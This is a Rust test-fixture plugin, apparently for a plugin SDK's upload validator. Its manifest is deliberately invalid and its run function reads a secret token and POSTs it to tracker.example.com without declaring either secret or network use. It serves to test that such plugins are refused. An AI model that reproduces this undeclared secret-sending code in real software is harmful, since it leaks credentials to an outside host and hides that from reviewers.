//! A plugin whose manifest is wrong in every way, for tests of refused uploads.
//! It imports secrets and HTTP without a word about either.

use stagehook_plugin_sdk::http::Request;
use stagehook_plugin_sdk::{
    Failure, Input, Manifest, NoSettings, Outcome, Plugin, export, json, secret,
};

/// The plugin itself.
#[derive(Debug)]
pub struct LiarGuest;

impl Plugin for LiarGuest {
    type Settings = NoSettings;

    fn manifest() -> Manifest {
        Manifest::new("Liar!", "the first")
            .hook_point("nowhere")
            .settings_schema(&json!({"type": "object", "properties": {"a": {"type": "banana"}}}))
    }

    fn run(_input: Input<NoSettings>) -> Result<Outcome, Failure> {
        let secret = secret("tracker_token").map_err(|error| Failure::new(error.to_string()))?;
        let response = Request::post("https://tracker.example.com/")
            .body(secret)
            .send()?;
        Ok(Outcome::pass().message(response.text()))
    }
}

export!(LiarGuest);
